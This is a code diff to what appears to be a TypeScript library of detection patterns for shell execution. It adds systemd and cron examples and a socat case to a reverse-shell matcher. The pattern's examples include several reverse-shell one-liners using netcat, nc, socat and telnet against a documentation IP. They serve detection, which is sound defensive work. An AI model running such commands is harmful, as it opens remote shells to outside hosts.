@@ -6,7 +6,13 @@ import { atWordStart } from "../look-behind.ts";
 import { pattern, type Pattern } from "../pattern.ts";
 import { digits, end, ows, quote, rws } from "../tokens.ts";
 import { PREFIX_COMMANDS } from "./shell-commands.ts";
-import { atTextStart, BEFORE_COMMAND, notAfterPipe, notAlternation, programPath } from "./shell-context.ts";
+import {
+  atTextStart,
+  BEFORE_COMMAND,
+  notAfterPipe,
+  notAlternation,
+  unscheduledProgram,
+} from "./shell-context.ts";
 import {
   address,
   anyCommand,
@@ -37,8 +43,10 @@ export const SHELL_EXECUTION: readonly Pattern[] = [
       "SHELL=/bin/bash\nPATH=x",
       "/bin/cat/x -a",
       "<code>/usr/bin/x</code>",
+      "[Service]\nExecStart=/usr/bin/python3 /srv/app/main.py",
+      "30 2 * * 1-5 /usr/local/bin/rotate --all",
     ],
-    before: programPath,
+    before: unscheduledProgram,
     after: seq(
       run(WORD, 2, 24),
       choice(seq(rws, choice(shellArgument, seq(quote, run(LETTER, 1, 1)))), seq(ows, oneOf(";|&"))),
@@ -110,12 +118,13 @@ export const SHELL_EXECUTION: readonly Pattern[] = [
       "netcat -e sh 192.0.2.1 4444",
       "nc 192.0.2.1 1 -e cmd",
       "socat exec:sh tcp:192.0.2.1:4444",
+      "socat TCP:192.0.2.1:4444 EXEC:sh",
       "telnet 192.0.2.1 1 | sh",
     ],
     ignores: ["nc -zv 192.0.2.1 443", "func -e sh", "telnet is old", "nc -e file"],
     precededBy: BEFORE_COMMAND,
     after: searchLine(
-      "-e|",
+      "-eE|",
       choice(
         seq(lit("-"), run(LETTER, 1, 5), rws, choice(lit("/"), keyword(["sh", "bash", "cmd"]))),
         lit("exec:"),
